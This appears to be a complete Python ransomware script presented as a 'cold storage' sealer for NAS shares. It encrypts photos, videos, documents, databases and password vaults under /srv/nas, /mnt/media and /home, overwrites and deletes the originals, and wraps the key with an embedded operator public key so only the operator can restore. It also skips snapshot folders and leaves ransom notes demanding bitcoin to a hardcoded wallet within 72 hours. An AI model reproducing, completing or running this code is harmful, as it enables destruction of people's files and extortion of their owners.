#!/usr/bin/env python3
"""Seal the NAS shares in place ("cold storage mode").

Walks every share under /srv/nas plus the home directories, replaces each
file with an encrypted .sealed copy and leaves a RESTORE_INSTRUCTIONS.txt
in every directory it touched.
"""
import argparse
import logging
import os
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives import hashes

LOG = logging.getLogger("sealer")
SHARE_ROOTS = ["/srv/nas", "/mnt/media", "/home"]
TARGET_EXT = {".jpg", ".jpeg", ".png", ".heic", ".mp4", ".mkv", ".mov", ".pdf",
              ".docx", ".xlsx", ".odt", ".zip", ".7z", ".flac", ".mp3", ".raw",
              ".nef", ".cr2", ".sqlite", ".db", ".kdbx", ".txt", ".csv"}
NOTE_NAME = "RESTORE_INSTRUCTIONS.txt"
NOTE = """Your photos, videos and documents on this NAS have been sealed.
To receive the restore key send 0.05 BTC to {wallet}
and e-mail your ID {victim_id} to restore@{contact}.
Files will be unrecoverable after 72 hours.
"""
OPERATOR_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu3k0QvL7m2h8x1sQ9y0Yb
kT0m7Wq2s5y4cZbqYk3l1Yv9x6V0yq2mTn8b4n9O1r0c7Q5mYdC3gO8F0n1rj5pQ
-----END PUBLIC KEY-----
"""


def wrap_key(session_key):
    try:
        pub = serialization.load_pem_public_key(OPERATOR_PUBKEY)
        return pub.encrypt(session_key, padding.OAEP(
            mgf=padding.MGF1(algorithm=hashes.SHA256()),
            algorithm=hashes.SHA256(), label=None))
    except ValueError:
        return b""


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith((".snapshots", "@"))]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and name != NOTE_NAME:
                    yield p


class ShareSealer:
    def __init__(self, key, wallet, contact, victim_id):
        self.fernet = Fernet(key)
        self.touched_dirs = set()
        self.note = NOTE.format(wallet=wallet, contact=contact, victim_id=victim_id)
        self.count = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
            path.with_name(path.name + ".sealed").write_bytes(self.fernet.encrypt(data))
            # overwrite then unlink so the original can't be carved back
            with open(path, "r+b") as fh:
                fh.write(os.urandom(min(len(data), 1 << 20)))
            path.unlink()
            self.touched_dirs.add(path.parent)
            self.count += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)

    def drop_notes(self):
        for d in self.touched_dirs:
            try:
                (d / NOTE_NAME).write_text(self.note)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--roots", nargs="*", default=SHARE_ROOTS)
    ap.add_argument("--wallet", default="bc1q9h7garjz6u3x0y7k2f5c8t4n6m0p3s2d8w5e7r")
    ap.add_argument("--contact", default="proton.me")
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    session_key = Fernet.generate_key()
    wrapped = wrap_key(session_key)
    victim_id = (wrapped[:12] or os.urandom(12)).hex()
    sealer = ShareSealer(session_key, args.wallet, args.contact, victim_id)

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for path in candidates(args.roots):
            pool.submit(sealer.seal, path)
    sealer.drop_notes()
    del session_key
    print(f"sealed {sealer.count} files")
    return 0


if __name__ == "__main__":
    sys.exit(main())
